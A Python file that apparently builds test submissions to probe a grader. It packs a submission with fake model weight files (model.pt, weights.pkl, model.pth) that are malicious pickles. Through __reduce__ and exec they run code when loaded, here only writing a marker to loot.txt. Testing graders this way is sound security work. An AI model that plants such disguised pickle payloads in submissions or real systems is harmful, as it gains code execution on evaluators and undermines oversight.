import pickle
import zipfile


class Bomb:
    def __init__(self, code):
        self.code = code

    def __reduce__(self):
        return (exec, (self.code,))


def build(source, folder, name):
    """A zip with the submission and a file of weights that runs code when it is loaded."""
    loot = next(line.split('"')[1] for line in source.splitlines() if line.startswith("LOOT"))
    code = f"import os; open(os.path.join({loot!r}, 'loot.txt'), 'a').write('code in the grader')"
    path = folder / f"{name}.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(f"{name}.py", source)
        for file in ("model.pt", "weights.pkl", "model.pth"):
            archive.writestr(file, pickle.dumps(Bomb(code), protocol=2))
    return path
